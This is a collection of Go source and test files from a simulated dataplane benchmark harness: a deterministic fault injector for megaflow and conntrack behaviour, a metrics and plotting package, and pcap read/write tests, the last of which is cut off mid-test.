func New(cfg Config) (*Injector, error) {
	for i := range cfg.Faults {
		f := &cfg.Faults[i]
		known := false
		for _, k := range Kinds {
			if f.Kind == k {
				known = true
				break
			}
		}
		if !known {
			return nil, fmt.Errorf("chaos: unknown fault kind %q", f.Kind)
		}
		if f.Stop != 0 && f.Stop <= f.Start {
			return nil, fmt.Errorf("chaos: fault %s: stop %d must be after start %d", f.Kind, f.Stop, f.Start)
		}
		if f.Prob < 0 || f.Prob > 1 {
			return nil, fmt.Errorf("chaos: fault %s: prob %g outside [0,1]", f.Kind, f.Prob)
		}
		if f.Prob == 0 {
			f.Prob = 1
		}
		if f.Delay == 0 {
			f.Delay = 1
		}
		if f.Factor == 0 {
			f.Factor = 4
		}
		if f.Factor < 1 {
			return nil, fmt.Errorf("chaos: fault %s: factor %g must be >= 1", f.Kind, f.Factor)
		}
	}
	return &Injector{cfg: cfg, rng: cfg.Seed ^ 0x9e3779b97f4a7c15}, nil
}

// splitmix64: one deterministic draw.
func (inj *Injector) draw() uint64 {
	inj.rng += 0x9e3779b97f4a7c15
	z := inj.rng
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return z ^ (z >> 31)
}

// drawFloat returns a uniform draw in [0, 1).
func (inj *Injector) drawFloat() float64 { return float64(inj.draw()>>11) / (1 << 53) }

// faultFor returns the first active fault of the kind, or nil.
func (inj *Injector) faultFor(kind string, now uint64) *Fault {
	for i := range inj.cfg.Faults {
		f := &inj.cfg.Faults[i]
		if f.Kind == kind && f.active(now) {
			return f
		}
	}
	return nil
}

// StallRevalidator reports whether this tick's maintenance round should
// be suppressed.
func (inj *Injector) StallRevalidator(now uint64) bool {
	if inj.faultFor(KindStallRevalidator, now) == nil {
		return false
	}
	inj.stats.StalledRounds++
	return true
}

// FillConntrack tops the table up to capacity with synthetic
// connections while a ct-fill fault is active. The tuples are
// deterministic (a 10.254/16 counter) and age out through the table's
// own idle expiry after the window closes.
func (inj *Injector) FillConntrack(now uint64, ct *conntrack.Table) {
	if ct == nil || inj.faultFor(KindCtFill, now) == nil {
		return
	}
	for ct.Len() < ct.Cap() {
		n := inj.ctNext
		inj.ctNext++
		src := fmt.Sprintf("10.254.%d.%d", byte(n>>8), byte(n))
		ft := conntrack.MustTuple(src, "10.255.0.1", 6, uint16(2000+n%60000), 9)
		if !ct.Commit(ft, now) {
			break
		}
		inj.stats.CtFilled++
	}
}

// Stats returns a snapshot of the fired-fault counters.
func (inj *Injector) Stats() Stats { return inj.stats }

// Observe records the injector's cumulative gauges at logical time t.
func (inj *Injector) Observe(tl *metrics.Group, t float64) {
	tl.Observe(t, "chaos_dropped", float64(inj.stats.DroppedUpcalls))
	tl.Observe(t, "chaos_delayed", float64(inj.stats.DelayedUpcalls))
	tl.Observe(t, "chaos_stalled", float64(inj.stats.StalledRounds))
}

// Summary returns the end-of-run fault counters, keyed the way scenario
// packs assert on them.
func (inj *Injector) Summary() map[string]float64 {
	return map[string]float64{
		"chaos_dropped_upcalls": float64(inj.stats.DroppedUpcalls),
		"chaos_delayed_upcalls": float64(inj.stats.DelayedUpcalls),
		"chaos_landed_delayed":  float64(inj.stats.LandedDelayed),
		"chaos_stalled_rounds":  float64(inj.stats.StalledRounds),
		"chaos_slow_scans":      float64(inj.stats.SlowScans),
		"chaos_ct_filled":       float64(inj.stats.CtFilled),
	}
}

// megaflowTier is the full capability set of the authoritative megaflow
// tier; the wrapper mirrors it exactly so capability discovery in
// dataplane.New sees the wrapped tier as the real thing.
type megaflowTier interface {
	dataplane.BatchTier
	dataplane.RunCoalescer
	dataplane.LimitedTier
	dataplane.RevalidatableTier
	dataplane.MegaflowInstaller
	Megaflow() *cache.Megaflow
}

// WrapTier is the dataplane.WithTierWrapper hook: authoritative megaflow
// tiers come back wrapped with the install/scan faults, every other tier
// passes through untouched.
func (inj *Injector) WrapTier(t dataplane.Tier) dataplane.Tier {
	mt, ok := t.(megaflowTier)
	if !ok {
		return t
	}
	return &faultyMegaflow{inj: inj, inner: mt}
}

// faultyMegaflow forwards the full megaflow tier capability set,
// injecting install drops/delays and scan-cost inflation.
type faultyMegaflow struct {
	inj   *Injector
	inner megaflowTier

	costScratch []int
}

// flushDue lands held-back installs whose due time has arrived. Install
// errors at landing time (flow limit, quotas) are absorbed: the upcall
// already paid for the delay.
func (f *faultyMegaflow) flushDue(now uint64) {
	if len(f.inj.delayed) == 0 {
		return
	}
	kept := f.inj.delayed[:0]
	for _, d := range f.inj.delayed {
		if d.due > now {
			kept = append(kept, d)
			continue
		}
		if _, err := f.inner.InsertMegaflow(d.match, d.v, d.due); err == nil {
			f.inj.stats.LandedDelayed++
		}
	}
	f.inj.delayed = kept
}

func (f *faultyMegaflow) Name() string                         { return f.inner.Name() }
func (f *faultyMegaflow) Path() dataplane.Path                 { return f.inner.Path() }
func (f *faultyMegaflow) Install(k flow.Key, ent *cache.Entry) { f.inner.Install(k, ent) }
func (f *faultyMegaflow) Flush()                               { f.inner.Flush() }
func (f *faultyMegaflow) EvictIdle(deadline uint64) int        { return f.inner.EvictIdle(deadline) }
func (f *faultyMegaflow) Stats() dataplane.TierStats           { return f.inner.Stats() }
func (f *faultyMegaflow) FlowLimit() int                       { return f.inner.FlowLimit() }
func (f *faultyMegaflow) SetFlowLimit(n int)                   { f.inner.SetFlowLimit(n) }
func (f *faultyMegaflow) TrimToLimit() int                     { return f.inner.TrimToLimit() }
func (f *faultyMegaflow) Megaflow() *cache.Megaflow            { return f.inner.Megaflow() }

func (f *faultyMegaflow) Revalidate(check func(*cache.Entry) (cache.Verdict, bool)) int {
	return f.inner.Revalidate(check)
}

func (f *faultyMegaflow) AccountRun(ent *cache.Entry, n int, cost int, now uint64) bool {
	return f.inner.AccountRun(ent, n, cost, now)
}

func (f *faultyMegaflow) Lookup(k flow.Key, now uint64) (*cache.Entry, int, bool) {
	f.flushDue(now)
	ent, cost, ok := f.inner.Lookup(k, now)
	if sf := f.inj.faultFor(KindSlowScan, now); sf != nil && cost > 0 {
		cost = int(float64(cost) * sf.Factor)
		f.inj.stats.SlowScans++
	}
	return ent, cost, ok
}

func (f *faultyMegaflow) LookupBatch(keys []flow.Key, hashes []uint64, now uint64, ents []*cache.Entry, costs []int, miss *burst.Bitmap) {
	f.flushDue(now)
	sf := f.inj.faultFor(KindSlowScan, now)
	if sf == nil {
		f.inner.LookupBatch(keys, hashes, now, ents, costs, miss)
		return
	}
	// Snapshot the incoming costs so only this tier's share inflates.
	if cap(f.costScratch) < len(costs) {
		f.costScratch = make([]int, len(costs))
	}
	before := f.costScratch[:len(costs)]
	copy(before, costs)
	f.inner.LookupBatch(keys, hashes, now, ents, costs, miss)
	for i := range costs {
		if d := costs[i] - before[i]; d > 0 {
			costs[i] = before[i] + int(float64(d)*sf.Factor)
			f.inj.stats.SlowScans++
		}
	}
}

func (f *faultyMegaflow) InsertMegaflow(match flow.Match, v cache.Verdict, now uint64) (*cache.Entry, error) {
	f.flushDue(now)
	if df := f.inj.faultFor(KindDropUpcalls, now); df != nil && f.inj.drawFloat() < df.Prob {
		f.inj.stats.DroppedUpcalls++
		return nil, ErrInjected
	}
	if df := f.inj.faultFor(KindDelayUpcalls, now); df != nil {
		f.inj.delayed = append(f.inj.delayed, delayedInstall{match: match, v: v, due: now + df.Delay})
		f.inj.stats.DelayedUpcalls++
		return nil, ErrInjected
	}
	return f.inner.InsertMegaflow(match, v, now)
}
