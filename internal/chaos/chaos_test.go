package chaos

import (
	"testing"

	"policyinject/internal/conntrack"
	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
)

// chaosSwitch builds a switch whose megaflow tier is wrapped by the
// injector, with exact ip_src allow rules so every key mints its own
// megaflow through the slow path.
func chaosSwitch(t *testing.T, inj *Injector) *dataplane.Switch {
	t.Helper()
	sw := dataplane.New("chaos", dataplane.WithoutEMC(), dataplane.WithTierWrapper(inj.WrapTier))
	for i := 0; i < 256; i++ {
		var m flow.Match
		m.Key.Set(flow.FieldIPSrc, 0x0a000000|uint64(i))
		m.Mask.SetExact(flow.FieldIPSrc)
		sw.InstallRule(flowtable.Rule{Match: m, Priority: 10, Action: flowtable.Action{Verdict: flowtable.Allow}})
	}
	sw.InstallRule(flowtable.Rule{Priority: 0})
	return sw
}

func chaosKey(i int) flow.Key {
	var k flow.Key
	k.Set(flow.FieldInPort, 1)
	k.Set(flow.FieldEthType, flow.EthTypeIPv4)
	k.Set(flow.FieldIPProto, flow.ProtoTCP)
	k.Set(flow.FieldIPSrc, 0x0a000000|uint64(i))
	k.Set(flow.FieldIPDst, 0xac100002)
	k.Set(flow.FieldTPSrc, 1024+uint64(i)%60000)
	k.Set(flow.FieldTPDst, 5201)
	return k
}

// TestNewValidation rejects malformed fault specs.
func TestNewValidation(t *testing.T) {
	cases := []struct {
		name string
		f    Fault
	}{
		{"unknown kind", Fault{Kind: "melt-cpu"}},
		{"window inverted", Fault{Kind: KindDropUpcalls, Start: 10, Stop: 5}},
		{"prob out of range", Fault{Kind: KindDropUpcalls, Prob: 1.5}},
		{"factor below 1", Fault{Kind: KindSlowScan, Factor: 0.5}},
	}
	for _, tc := range cases {
		if _, err := New(Config{Faults: []Fault{tc.f}}); err == nil {
			t.Errorf("%s: accepted %+v", tc.name, tc.f)
		}
	}
	if _, err := New(Config{Faults: []Fault{{Kind: KindDropUpcalls, Start: 1, Stop: 4, Prob: 0.5}}}); err != nil {
		t.Fatalf("valid fault refused: %v", err)
	}
}

// TestDropUpcallsDeterministic: probabilistic install drops replay
// byte-identically under the same seed, and the fault honours its
// window.
func TestDropUpcallsDeterministic(t *testing.T) {
	run := func(seed uint64) (installErr, dropped uint64, resident int) {
		inj, err := New(Config{Seed: seed, Faults: []Fault{{Kind: KindDropUpcalls, Start: 0, Stop: 5, Prob: 0.5}}})
		if err != nil {
			t.Fatal(err)
		}
		sw := chaosSwitch(t, inj)
		for i := 0; i < 64; i++ {
			sw.ProcessKey(0, chaosKey(i))
		}
		return sw.Counters().InstallErr, inj.Stats().DroppedUpcalls, sw.Megaflow().Len()
	}
	e1, d1, r1 := run(7)
	e2, d2, r2 := run(7)
	if e1 != e2 || d1 != d2 || r1 != r2 {
		t.Fatalf("same seed diverged: (%d,%d,%d) vs (%d,%d,%d)", e1, d1, r1, e2, d2, r2)
	}
	if d1 == 0 || d1 == 64 {
		t.Fatalf("prob 0.5 over 64 installs dropped %d — fault not probabilistic", d1)
	}
	if e1 != d1 {
		t.Fatalf("install errors %d do not match injected drops %d", e1, d1)
	}
	if r1 != 64-int(d1) {
		t.Fatalf("%d megaflows resident, want %d (64 minus %d drops)", r1, 64-int(d1), d1)
	}

	// Outside the window the same injector forwards untouched.
	inj, _ := New(Config{Seed: 7, Faults: []Fault{{Kind: KindDropUpcalls, Start: 10, Stop: 20, Prob: 1}}})
	sw := chaosSwitch(t, inj)
	sw.ProcessKey(0, chaosKey(0))
	if sw.Megaflow().Len() != 1 || inj.Stats().DroppedUpcalls != 0 {
		t.Fatal("drop fault fired outside its window")
	}
}

// TestDelayUpcallsLand: a delayed install is refused now and lands once
// its due tick arrives, via any later lookup on the tier.
func TestDelayUpcallsLand(t *testing.T) {
	inj, err := New(Config{Faults: []Fault{{Kind: KindDelayUpcalls, Start: 0, Stop: 4, Delay: 3}}})
	if err != nil {
		t.Fatal(err)
	}
	sw := chaosSwitch(t, inj)
	sw.ProcessKey(0, chaosKey(1))
	if got := sw.Megaflow().Len(); got != 0 {
		t.Fatalf("%d megaflows resident during the delay, want 0", got)
	}
	st := inj.Stats()
	if st.DelayedUpcalls != 1 || st.LandedDelayed != 0 {
		t.Fatalf("stats %+v, want one in-flight delayed install", st)
	}
	// t=2: still before the first install's due tick (0+3); a second
	// upcall queues behind it.
	sw.ProcessKey(2, chaosKey(2))
	if got := sw.Megaflow().Len(); got != 0 {
		t.Fatalf("%d megaflows resident before due, want 0", got)
	}
	// t=3: the first install is due and lands on the lookup path.
	sw.ProcessKey(3, chaosKey(1))
	if got := sw.Megaflow().Len(); got == 0 {
		t.Fatal("delayed install never landed")
	}
	if st := inj.Stats(); st.LandedDelayed == 0 {
		t.Fatalf("stats %+v, want landed delayed installs", st)
	}
}

// TestSlowScanInflatesCost: scan costs inflate by Factor inside the
// window only.
func TestSlowScanInflatesCost(t *testing.T) {
	inj, err := New(Config{Faults: []Fault{{Kind: KindSlowScan, Start: 10, Stop: 20, Factor: 4}}})
	if err != nil {
		t.Fatal(err)
	}
	sw := chaosSwitch(t, inj)
	sw.ProcessKey(0, chaosKey(1)) // resident megaflow
	base := sw.ProcessKey(1, chaosKey(1)).MasksScanned
	if base == 0 {
		t.Fatal("baseline hit scanned no masks")
	}
	slow := sw.ProcessKey(10, chaosKey(1)).MasksScanned
	if slow != 4*base {
		t.Fatalf("slow-scan cost %d, want %d (4x %d)", slow, 4*base, base)
	}
	after := sw.ProcessKey(20, chaosKey(1)).MasksScanned
	if after != base {
		t.Fatalf("cost %d after the window, want baseline %d", after, base)
	}
	if inj.Stats().SlowScans == 0 {
		t.Fatal("no slow scans counted")
	}
}

// TestStallRevalidatorWindow: ticks are suppressed inside the window
// and counted.
func TestStallRevalidatorWindow(t *testing.T) {
	inj, err := New(Config{Faults: []Fault{{Kind: KindStallRevalidator, Start: 5, Stop: 8}}})
	if err != nil {
		t.Fatal(err)
	}
	stalled := 0
	for now := uint64(0); now < 12; now++ {
		if inj.StallRevalidator(now) {
			stalled++
		}
	}
	if stalled != 3 || inj.Stats().StalledRounds != 3 {
		t.Fatalf("stalled %d rounds (stats %d), want 3", stalled, inj.Stats().StalledRounds)
	}
}

// TestFillConntrack: the table fills to capacity inside the window with
// deterministic synthetic tuples, and stays untouched outside it.
func TestFillConntrack(t *testing.T) {
	inj, err := New(Config{Faults: []Fault{{Kind: KindCtFill, Start: 2, Stop: 4}}})
	if err != nil {
		t.Fatal(err)
	}
	ct := conntrack.New(conntrack.Config{MaxConns: 32, IdleTimeout: 5})
	inj.FillConntrack(0, ct)
	if ct.Len() != 0 {
		t.Fatalf("table filled outside the window: %d", ct.Len())
	}
	inj.FillConntrack(2, ct)
	if ct.Len() != ct.Cap() {
		t.Fatalf("table at %d/%d during ct-fill", ct.Len(), ct.Cap())
	}
	if inj.Stats().CtFilled != 32 {
		t.Fatalf("counted %d synthetic commits, want 32", inj.Stats().CtFilled)
	}
	// A real commit bounces off the full table.
	real := conntrack.MustTuple("192.168.1.1", "192.168.1.2", 6, 40000, 443)
	if ct.Commit(real, 2) {
		t.Fatal("real commit admitted into a full table")
	}
	// Re-fill within the window only tops up what expired.
	inj.FillConntrack(3, ct)
	if inj.Stats().CtFilled != 32 {
		t.Fatalf("refilled an already-full table: %d commits", inj.Stats().CtFilled)
	}
}

// TestWrapTierPreservesCapabilities: wrapped megaflow tiers keep the
// full capability surface (the switch still resolves Megaflow() through
// the wrapper) and non-megaflow tiers pass through untouched.
func TestWrapTierPreservesCapabilities(t *testing.T) {
	inj, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	sw := dataplane.New("caps", dataplane.WithTierWrapper(inj.WrapTier))
	if sw.Megaflow() == nil {
		t.Fatal("wrapped switch lost its megaflow accessor")
	}
	sw.InstallRule(flowtable.Rule{Priority: 0, Action: flowtable.Action{Verdict: flowtable.Allow}})
	sw.ProcessKey(0, chaosKey(1))
	if sw.Megaflow().Len() == 0 {
		t.Fatal("no megaflow installed through the fault-free wrapper")
	}
}
