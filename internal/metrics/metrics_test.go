package metrics

import (
	"math"
	"strings"
	"testing"
	"testing/quick"
)

func TestSeriesAddAt(t *testing.T) {
	var s Series
	s.Add(0, 1)
	s.Add(10, 2)
	s.Add(20, 3)
	cases := []struct{ t, want float64 }{
		{-1, 0}, {0, 1}, {5, 1}, {10, 2}, {19, 2}, {20, 3}, {100, 3},
	}
	for _, c := range cases {
		if got := s.At(c.t); got != c.want {
			t.Errorf("At(%g) = %g, want %g", c.t, got, c.want)
		}
	}
}

// TestSeriesAtUnsortedAndDuplicates is the regression test for At's
// sorted-T assumption: out-of-order appends used to feed unsorted data
// into a binary search (wrong neighbor), and duplicate times returned
// the first-appended sample instead of the last observation at that
// clock reading.
func TestSeriesAtUnsortedAndDuplicates(t *testing.T) {
	var unsorted Series
	unsorted.Add(20, 3)
	unsorted.Add(0, 1)
	unsorted.Add(10, 2)
	cases := []struct{ t, want float64 }{
		{-1, 0}, {0, 1}, {5, 1}, {10, 2}, {15, 2}, {20, 3}, {100, 3},
	}
	for _, c := range cases {
		if got := unsorted.At(c.t); got != c.want {
			t.Errorf("unsorted At(%g) = %g, want %g", c.t, got, c.want)
		}
	}

	var dup Series
	dup.Add(0, 1)
	dup.Add(10, 2)
	dup.Add(10, 5) // re-observed within the same tick: the later sample wins
	dup.Add(20, 3)
	if got := dup.At(10); got != 5 {
		t.Errorf("duplicate-time At(10) = %g, want the last sample 5", got)
	}
	if got := dup.At(15); got != 5 {
		t.Errorf("At(15) = %g, want 5", got)
	}
}

func TestSeriesWindow(t *testing.T) {
	var s Series
	for i := 0; i < 10; i++ {
		s.Add(float64(i), float64(i*i))
	}
	w := s.Window(3, 6)
	if len(w) != 3 || w[0] != 9 || w[2] != 25 {
		t.Errorf("Window = %v", w)
	}
	if got := s.Window(100, 200); got != nil {
		t.Errorf("empty window = %v", got)
	}
}

func TestSummarize(t *testing.T) {
	s := Summarize([]float64{4, 1, 3, 2})
	if s.N != 4 || s.Min != 1 || s.Max != 4 || s.Mean != 2.5 || s.Median != 2.5 {
		t.Errorf("summary: %+v", s)
	}
	if got := Summarize(nil); got.N != 0 {
		t.Errorf("empty summary: %+v", got)
	}
	one := Summarize([]float64{7})
	if one.Median != 7 || one.P90 != 7 || one.Stddev != 0 {
		t.Errorf("singleton summary: %+v", one)
	}
}

// Property: Min <= P10 <= Median <= P90 <= Max, and Mean within [Min,Max].
func TestSummaryOrdering(t *testing.T) {
	prop := func(vs []float64) bool {
		clean := vs[:0]
		for _, v := range vs {
			// Constrain to magnitudes whose sums cannot overflow; the
			// harness only ever summarises throughputs and mask counts.
			if !math.IsNaN(v) && !math.IsInf(v, 0) && math.Abs(v) < 1e12 {
				clean = append(clean, v)
			}
		}
		if len(clean) == 0 {
			return true
		}
		s := Summarize(clean)
		return s.Min <= s.P10 && s.P10 <= s.Median && s.Median <= s.P90 &&
			s.P90 <= s.Max && s.Mean >= s.Min && s.Mean <= s.Max
	}
	if err := quick.Check(prop, nil); err != nil {
		t.Error(err)
	}
}

func TestCSV(t *testing.T) {
	a := &Series{Name: "thru"}
	b := &Series{Name: "masks"}
	a.Add(0, 1.5)
	a.Add(1, 2.5)
	b.Add(0, 8)
	b.Add(1, 512)
	got := CSV(a, b)
	want := "t,thru,masks\n0,1.5,8\n1,2.5,512\n"
	if got != want {
		t.Errorf("CSV = %q, want %q", got, want)
	}
}

func TestCSVUnevenSeries(t *testing.T) {
	a := &Series{Name: "a"}
	b := &Series{Name: "b"}
	a.Add(0, 1)
	a.Add(1, 2)
	b.Add(0, 9)
	got := CSV(a, b)
	if !strings.Contains(got, "1,2,\n") {
		t.Errorf("CSV = %q", got)
	}
}

func TestTable(t *testing.T) {
	tbl := &Table{Header: []string{"masks", "gbps"}}
	tbl.AddRow(8, 0.94)
	tbl.AddRow(8192, 0.01)
	out := tbl.String()
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 4 {
		t.Fatalf("table:\n%s", out)
	}
	if !strings.HasPrefix(lines[0], "masks") || !strings.Contains(lines[2], "0.940") {
		t.Errorf("table:\n%s", out)
	}
}

func TestTableIntegerFloats(t *testing.T) {
	tbl := &Table{Header: []string{"n"}}
	tbl.AddRow(512.0)
	if !strings.Contains(tbl.String(), "512") || strings.Contains(tbl.String(), "512.000") {
		t.Errorf("integer float rendered badly:\n%s", tbl.String())
	}
}

func TestGroup(t *testing.T) {
	var g Group
	g.Observe(0, "flow_limit", 200000)
	g.Observe(0, "flows", 8)
	g.Observe(1, "flow_limit", 150000)
	if s := g.Series("flow_limit"); s == nil || s.Len() != 2 || s.V[1] != 150000 {
		t.Fatalf("flow_limit series: %+v", g.Series("flow_limit"))
	}
	if g.Series("nope") != nil {
		t.Error("unknown series should be nil")
	}
	all := g.All()
	if len(all) != 2 || all[0].Name != "flow_limit" || all[1].Name != "flows" {
		t.Fatalf("All() order: %v", all)
	}
	csv := g.CSV()
	if !strings.Contains(csv, "t,flow_limit,flows") {
		t.Errorf("group CSV header:\n%s", csv)
	}
}

func TestGnuplot(t *testing.T) {
	a := &Series{Name: "victim"}
	a.Add(0, 0.9)
	b := &Series{Name: "masks"}
	b.Add(0, 8)
	out := Gnuplot(a, b)
	if !strings.Contains(out, "# victim") || !strings.Contains(out, "\n\n# masks") {
		t.Errorf("gnuplot:\n%s", out)
	}
}
