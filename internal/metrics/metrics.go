// Package metrics provides the measurement plumbing of the benchmark
// harness: time series, summary statistics and table rendering for the
// figures the experiments regenerate.
package metrics

import (
	"fmt"
	"math"
	"sort"
	"strings"
)

// Series is a time series of (t, value) samples.
type Series struct {
	Name string
	T    []float64
	V    []float64
}

// Add appends a sample.
func (s *Series) Add(t, v float64) {
	s.T = append(s.T, t)
	s.V = append(s.V, v)
}

// Len returns the number of samples.
func (s *Series) Len() int { return len(s.T) }

// At returns the value at the sample with the greatest time <= t (the
// last-appended such sample when several share that time), or 0 before
// the first sample. Timeline series append in clock order, so the
// common case is a binary search; a series whose times arrived out of
// order is still answered correctly through a linear scan rather than
// silently misusing binary search on unsorted data.
func (s *Series) At(t float64) float64 {
	if sort.Float64sAreSorted(s.T) {
		i := sort.Search(len(s.T), func(j int) bool { return s.T[j] > t })
		if i == 0 {
			return 0
		}
		return s.V[i-1]
	}
	best := -1
	for i, ti := range s.T {
		if ti <= t && (best < 0 || ti >= s.T[best]) {
			best = i
		}
	}
	if best < 0 {
		return 0
	}
	return s.V[best]
}

// Window returns the values with t in [from, to).
func (s *Series) Window(from, to float64) []float64 {
	var out []float64
	for i, t := range s.T {
		if t >= from && t < to {
			out = append(out, s.V[i])
		}
	}
	return out
}

// Group is an ordered bundle of named series sharing one clock — the shape
// a timeline experiment records: Observe(t, name, v) appends a sample to
// the named series, creating it on first use, so instrumented subsystems
// (the revalidator, the cache tiers) can emit whatever gauges they have
// without the experiment pre-declaring each one.
type Group struct {
	order  []*Series
	byName map[string]*Series
}

// Observe appends (t, v) to the named series, creating it on first use.
func (g *Group) Observe(t float64, name string, v float64) {
	g.series(name).Add(t, v)
}

func (g *Group) series(name string) *Series {
	if s, ok := g.byName[name]; ok {
		return s
	}
	if g.byName == nil {
		g.byName = make(map[string]*Series)
	}
	s := &Series{Name: name}
	g.byName[name] = s
	g.order = append(g.order, s)
	return s
}

// Series returns the named series, or nil when nothing was observed under
// that name.
func (g *Group) Series(name string) *Series { return g.byName[name] }

// All returns the series in first-observation order.
func (g *Group) All() []*Series { return g.order }

// CSV renders the whole group as comma-separated columns.
func (g *Group) CSV() string { return CSV(g.order...) }

// Summary describes a sample set.
type Summary struct {
	N            int
	Min, Max     float64
	Mean, Median float64
	P10, P90     float64
	Stddev       float64
}

// Summarize computes summary statistics of vs. An empty input yields a
// zero Summary.
func Summarize(vs []float64) Summary {
	if len(vs) == 0 {
		return Summary{}
	}
	sorted := append([]float64(nil), vs...)
	sort.Float64s(sorted)
	var sum, sq float64
	for _, v := range sorted {
		sum += v
	}
	mean := sum / float64(len(sorted))
	for _, v := range sorted {
		sq += (v - mean) * (v - mean)
	}
	return Summary{
		N:      len(sorted),
		Min:    sorted[0],
		Max:    sorted[len(sorted)-1],
		Mean:   mean,
		Median: percentile(sorted, 0.5),
		P10:    percentile(sorted, 0.10),
		P90:    percentile(sorted, 0.90),
		Stddev: math.Sqrt(sq / float64(len(sorted))),
	}
}

// percentile interpolates the p-quantile of sorted values.
func percentile(sorted []float64, p float64) float64 {
	if len(sorted) == 0 {
		return 0
	}
	if len(sorted) == 1 {
		return sorted[0]
	}
	pos := p * float64(len(sorted)-1)
	lo := int(math.Floor(pos))
	hi := int(math.Ceil(pos))
	frac := pos - float64(lo)
	return sorted[lo]*(1-frac) + sorted[hi]*frac
}

// CSV renders aligned series as comma-separated columns with a header:
// t,name1,name2,... The series must share their time points (as the
// simulator guarantees); shorter series pad with empty cells.
func CSV(series ...*Series) string {
	var b strings.Builder
	b.WriteString("t")
	for _, s := range series {
		b.WriteString(",")
		b.WriteString(s.Name)
	}
	b.WriteByte('\n')
	n := 0
	for _, s := range series {
		if s.Len() > n {
			n = s.Len()
		}
	}
	for i := 0; i < n; i++ {
		wrote := false
		for _, s := range series {
			if i < s.Len() {
				if !wrote {
					fmt.Fprintf(&b, "%g", s.T[i])
					wrote = true
				}
				break
			}
		}
		for _, s := range series {
			if i < s.Len() {
				fmt.Fprintf(&b, ",%g", s.V[i])
			} else {
				b.WriteString(",")
			}
		}
		b.WriteByte('\n')
	}
	return b.String()
}

// Table renders rows as an aligned text table with a header, the format
// cmd/figures prints.
type Table struct {
	Header []string
	Rows   [][]string
}

// AddRow appends a row of cells (stringified with %v).
func (t *Table) AddRow(cells ...any) {
	row := make([]string, len(cells))
	for i, c := range cells {
		switch v := c.(type) {
		case float64:
			row[i] = trimFloat(v)
		default:
			row[i] = fmt.Sprintf("%v", c)
		}
	}
	t.Rows = append(t.Rows, row)
}

func trimFloat(v float64) string {
	if v == math.Trunc(v) && math.Abs(v) < 1e15 {
		return fmt.Sprintf("%.0f", v)
	}
	return fmt.Sprintf("%.3f", v)
}

// String renders the table.
func (t *Table) String() string {
	widths := make([]int, len(t.Header))
	for i, h := range t.Header {
		widths[i] = len(h)
	}
	for _, r := range t.Rows {
		for i, c := range r {
			if i < len(widths) && len(c) > widths[i] {
				widths[i] = len(c)
			}
		}
	}
	var b strings.Builder
	writeRow := func(cells []string) {
		for i, c := range cells {
			if i > 0 {
				b.WriteString("  ")
			}
			fmt.Fprintf(&b, "%-*s", widths[i], c)
		}
		b.WriteByte('\n')
	}
	writeRow(t.Header)
	for i, w := range widths {
		if i > 0 {
			b.WriteString("  ")
		}
		b.WriteString(strings.Repeat("-", w))
	}
	b.WriteByte('\n')
	for _, r := range t.Rows {
		writeRow(r)
	}
	return b.String()
}

// Gnuplot renders series as a gnuplot-ready data block (index-separated),
// so the figures can be plotted exactly like the paper's Fig. 3.
func Gnuplot(series ...*Series) string {
	var b strings.Builder
	for si, s := range series {
		if si > 0 {
			b.WriteString("\n\n")
		}
		fmt.Fprintf(&b, "# %s\n", s.Name)
		for i := range s.T {
			fmt.Fprintf(&b, "%g %g\n", s.T[i], s.V[i])
		}
	}
	return b.String()
}
