package pkt

import (
	"bytes"
	"encoding/binary"
	"net/netip"
	"testing"
)

func someFrames(t *testing.T, n int) [][]byte {
	t.Helper()
	frames := make([][]byte, n)
	for i := range frames {
		frames[i] = MustBuild(Spec{
			Src:     netip.AddrFrom4([4]byte{10, 0, byte(i >> 8), byte(i)}),
			Dst:     netip.MustParseAddr("172.16.0.2"),
			Proto:   ProtoTCP,
			SrcPort: uint16(1000 + i),
			DstPort: 80,
		})
	}
	return frames
}

func TestPcapRoundTrip(t *testing.T) {
	frames := someFrames(t, 37)
	var buf bytes.Buffer
	if err := WritePcap(&buf, frames, 250); err != nil {
		t.Fatal(err)
	}
	got, err := ReadPcap(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(frames) {
		t.Fatalf("frames = %d, want %d", len(got), len(frames))
	}
	for i := range frames {
		if !bytes.Equal(got[i], frames[i]) {
			t.Fatalf("frame %d differs", i)
		}
	}
}

func TestPcapEmptyCapture(t *testing.T) {
	var buf bytes.Buffer
	if err := WritePcap(&buf, nil, 0); err != nil {
		t.Fatal(err)
	}
	got, err := ReadPcap(&buf)
	if err != nil || len(got) != 0 {
		t.Fatalf("got %d frames, err %v", len(got), err)
	}
}

func TestPcapTimestampsPaced(t *testing.T) {
	frames := someFrames(t, 3)
	var buf bytes.Buffer
	if err := WritePcap(&buf, frames, 500000); err != nil { // 2 pps
		t.Fatal(err)
	}
	b := buf.Bytes()
	// Record 2 header sits after 24 (global) + 16 + len(frame0) + 16 + len(frame1).
	off := 24 + 16 + len(frames[0]) + 16 + len(frames[1])
	sec := binary.LittleEndian.Uint32(b[off : off+4])
	usec := binary.LittleEndian.Uint32(b[off+4 : off+8])
	if sec != 1 || usec != 0 {
		t.Errorf("third frame at %d.%06d, want 1.000000", sec, usec)
	}
}

func TestPcapBigEndianAccepted(t *testing.T) {
	frames := someFrames(t, 2)
	var buf bytes.Buffer
	if err := WritePcap(&buf, frames, 1); err != nil {
		t.Fatal(err)
	}
	// Byte-swap the whole header and records to fake a BE writer.
	b := buf.Bytes()
	be := make([]byte, len(b))
	copy(be, b)
	swap32 := func(off int) {
		be[off], be[off+1], be[off+2], be[off+3] = be[off+3], be[off+2], be[off+1], be[off]
	}
	swap16 := func(off int) { be[off], be[off+1] = be[off+1], be[off] }
	swap32(0)
	swap16(4)
	swap16(6)
	swap32(8)
	swap32(12)
	swap32(16)
	swap32(20)
	off := 24
	for range frames {
		swap32(off)
		swap32(off + 4)
		swap32(off + 8)
		swap32(off + 12)
		l := int(binary.BigEndian.Uint32(be[off+8 : off+12]))
		off += 16 + l
	}
	got, err := ReadPcap(bytes.NewReader(be))
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 2 || !bytes.Equal(got[0], frames[0]) {
		t.Fatalf("BE read: %d frames", len(got))
	}
}

func TestPcapReadErrors(t *testing.T) {
	// Garbage magic.
	if _, err := ReadPcap(bytes.NewReader(make([]byte, 24))); err == nil {
		t.Error("zero header accepted")
	}
	// Truncated header.
